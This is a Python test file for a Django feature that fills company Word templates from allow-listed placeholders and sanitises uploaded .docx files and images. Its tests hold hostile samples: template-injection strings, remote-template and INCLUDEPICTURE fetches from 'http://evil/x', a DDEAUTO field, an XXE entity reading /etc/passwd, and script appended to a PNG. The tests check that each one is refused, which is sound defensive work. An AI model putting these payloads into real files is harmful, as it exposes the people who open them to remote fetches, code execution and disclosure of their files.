"""A company's own wording, Word templates and pictures: placeholders from an allow-list, no code, nothing hidden."""

import io
import zipfile
from typing import Any

import docx
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from xieli.core import clock, store
from xieli.documents import house, own_word, pictures, placeholders
from xieli.documents.models import Wording
from xieli.documents.paper import Paper, Table, Text

from .papers import form, notice, seal_picture, words_in

MONDAY = clock.at(2026, 9, 7, 9)


@pytest.fixture(autouse=True)
def _files_of_its_own(settings: Any, tmp_path: Any) -> None:
    settings.MEDIA_ROOT = tmp_path


def template(*lines: str, row: tuple[str, ...] = ()) -> bytes:
    file, out = docx.Document(), io.BytesIO()
    for line in lines:
        file.add_paragraph(line)
    if row:
        cells = file.add_table(rows=1, cols=len(row)).rows[0].cells
        for cell, text in zip(cells, row, strict=True):
            cell.text = text
    file.save(out)
    return out.getvalue()


def rendered(content: bytes, paper: Paper) -> str:
    return words_in(own_word.render(paper, store.keep(content)))


def test_a_template_is_filled_with_what_the_paper_says() -> None:
    content = template("{{发文机关}} {{ 文号 }}", "{{标题}}")
    assert own_word.problems(content, notice()) == []
    words = rendered(content, notice())
    assert "启元绿充科技有限公司 绿充项〔2026〕12号" in words
    assert "关于城东充电站扩容项目立项的通知" in words


def test_a_row_of_list_placeholders_is_repeated_for_every_line() -> None:
    content = template("{{标题}}", row=("{{分工·任务}}", "{{分工·负责人}}"))
    assert own_word.problems(content, notice()) == []
    words = rendered(content, notice())
    assert words.count("顾长川") == 80
    assert "第79项" in words
    assert "{{" not in words


def test_a_placeholder_that_word_cut_into_pieces_is_still_one() -> None:
    file, out = docx.Document(), io.BytesIO()
    paragraph = file.add_paragraph("前")
    for piece in ("{", "{文", "号}", "}后"):
        paragraph.add_run(piece).bold = piece == "{文"
    file.save(out)
    assert "前绿充项〔2026〕12号后" in rendered(out.getvalue(), notice())


@pytest.mark.parametrize(
    "code",
    ["{% for x in y %}", "{# x #}", "{{ paper.number }}", "{{ 7*7 }}", "{{ x|safe }}", "{{ ''.__class__ }}",
     "{{文号.__init__}}", "{{config}}", "${7*7}", "<% x %>", "{{文号", "文号}}", "{{{{文号}}}}"],
)  # fmt: skip
def test_code_and_unknown_names_are_refused_everywhere(code: str) -> None:
    assert placeholders.problems(code, placeholders.words_of(notice()).values)
    assert own_word.problems(template(code), notice())
    assert own_word.problems(template(row=(code, "x")), notice())


def test_list_placeholders_stay_in_one_row_of_one_list() -> None:
    assert own_word.problems(template("{{分工·任务}}"), notice()) == ["列表的占位符只能放在表格的一行里。"]
    mixed = template(row=("{{分工·任务}}", "{{附件}}"))
    assert own_word.problems(mixed, notice()) == ["表格的一行只能用同一个列表的占位符。"]


def with_part(name: str, content: bytes) -> bytes:
    out = io.BytesIO(template("{{文号}}"))
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(name, content)
    return out.getvalue()


RELATION = (
    b'<Relationships><Relationship Id="r9" Type="x/%s" Target="http://evil/x" TargetMode="External"/>'
    b"</Relationships>"
)


@pytest.mark.parametrize(
    ("name", "content"),
    [("word/vbaProject.bin", b"x"), ("word/embeddings/o.bin", b"x"),
     ("word/_rels/settings.xml.rels", RELATION % b"attachedTemplate"),
     ("word/extra.xml", b'<w:instrText> INCLUDEPICTURE "http://evil/x" </w:instrText>'),
     ("word/extra.xml", b'<w:fldSimple w:instr="DDEAUTO c:\\x"/>'),
     ("word/extra.xml", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>')],
)  # fmt: skip
def test_what_runs_or_fetches_is_refused(name: str, content: bytes) -> None:
    assert own_word.problems(template("{{文号}}"), notice()) == []
    assert own_word.problems(with_part(name, content), notice())


def test_what_is_no_word_file_is_refused() -> None:
    for content in (b"", b"PK\x03\x04rubbish", b"%PDF-1.7", template("x")[:500]):
        assert own_word.problems(content, notice()) == ["这不是完好的 Word 文件（.docx）。"]


def test_a_link_people_may_click_is_no_danger() -> None:
    assert own_word.problems(with_part("word/_rels/x.xml.rels", RELATION % b"hyperlink"), notice()) == []


@given(st.text(st.characters(exclude_categories=["Cs", "Cc"]), max_size=30))
def test_what_a_value_says_is_never_looked_at_again(value: str) -> None:
    assert placeholders.filled("{{文号}}", {"文号": "{{标题}}" + value, "标题": "x"}) == "{{标题}}" + value


def test_placeholders_in_text_boxes_headers_and_footers_are_filled() -> None:
    file, out = docx.Document(io.BytesIO(template("x"))), io.BytesIO()
    file.sections[0].header.paragraphs[0].text = "{{发文机关}}"
    file.sections[0].footer.paragraphs[0].text = "{{文号}}"
    run, box, inside = file.paragraphs[0].add_run(), OxmlElement("w:txbxContent"), OxmlElement("w:p")
    piece, text = OxmlElement("w:r"), OxmlElement("w:t")
    text.text = "{{标题}}"
    piece.append(text)
    inside.append(piece)
    box.append(inside)
    run._element.append(box)
    file.save(out)
    assert own_word.problems(out.getvalue(), notice()) == []
    words = rendered(out.getvalue(), notice())
    for one in ("启元绿充科技有限公司", "绿充项〔2026〕12号", "关于城东充电站扩容项目立项的通知"):
        assert one in words
    assert qn("w:t")


def test_own_title_opening_and_closing_are_laid_over_the_standard() -> None:
    own = Wording(title="{{发文机关}}通知", opening="根据{{文号}}：", closing="特此通知。")
    paper = house.dressed(notice(), house.Letterhead(office="甲公司", code="甲"), own)
    assert paper.title == "启元绿充科技有限公司通知"
    assert paper.blocks[0] == Text("根据绿充项〔2026〕12号：")
    assert paper.blocks[-1] == Text("特此通知。")


def test_a_paper_names_the_columns_of_a_list_that_is_still_empty() -> None:
    words = placeholders.words_of(form(blocks=(Table("分工", ("任务",), ()),)))
    assert words.names == {"分工": ("分工·任务",)}
    assert words.lists == {"分工": []}


@pytest.mark.django_db
def test_every_version_stays_and_the_standard_is_one_step_away() -> None:
    values = {"title": "甲", "opening": "", "closing": "", "word": template("{{文号}}"), "no_word": False}
    first = house.set_wording("x.y", values, "a.docx", "admin", MONDAY)
    second = house.set_wording("x.y", {**values, "title": "乙", "word": b""}, "", "admin", MONDAY)
    assert (second.word, second.word_name) == (first.word, "a.docx")
    house.back_to_standard("x.y", MONDAY)
    assert house.wording("x.y") is None
    assert Wording.objects.filter(kind="x.y").count() == 2


def test_a_picture_is_drawn_anew_and_must_be_one() -> None:
    hidden = seal_picture() + b"<script>alert(1)</script>"
    assert b"script" not in pictures.plain_png(hidden, transparent=True)
    for wrong in (b"", b"GIF89a", b"<svg/>", b"\x89PNG\r\n\x1a\n"):
        with pytest.raises(ValueError, match="图片"):
            pictures.plain_png(wrong)
    opaque = io.BytesIO()
    Image.new("RGB", (200, 200), "white").save(opaque, "PNG")
    with pytest.raises(ValueError, match="透明"):
        pictures.plain_png(opaque.getvalue(), transparent=True)


@pytest.mark.django_db
def test_an_administrator_sees_specimens_saves_and_returns_to_the_standard(cast: Any, client_of: Any) -> None:
    client = client_of(cast.system)
    page = client.get("/documents/settings/coordination.decision/").content.decode()
    assert "{{执行部门}}" in page
    assert "{{各方立场·立场}}" in page
    bad = client.post("/documents/settings/coordination.decision/", {"title": "{{密码}}"})
    assert bad.status_code == 422
    assert "没有“密码”这个占位符" in bad.content.decode()
    file = SimpleUploadedFile("决定.docx", template("{{文号}}"))
    assert (
        client.post("/documents/settings/coordination.decision/", {"title": "决定", "word": file}).status_code
        == 303
    )
    assert client.get("/documents/settings/coordination.decision/preview.pdf").content.startswith(b"%PDF")
    assert client.get("/documents/settings/coordination.decision/preview.docx").content.startswith(b"PK")
    assert client.post("/documents/settings/coordination.decision/standard/").status_code == 303
    assert house.wording("coordination.decision") is None


@pytest.mark.django_db
def test_the_letterhead_changes_what_new_documents_say(cast: Any, client_of: Any) -> None:
    logo = SimpleUploadedFile("logo.png", seal_picture())
    data = {"office": "江右绿充集团", "code": "江绿", "signer": "陆承远", "logo": logo}
    assert client_of(cast.system).post("/documents/settings/", data).status_code == 303
    paper = house.dressed(Paper("通知", (), red=True), house.letterhead(), None)
    assert (paper.office, paper.signer) == ("江右绿充集团", "陆承远")
    assert store.read(paper.logo).startswith(b"\x89PNG")
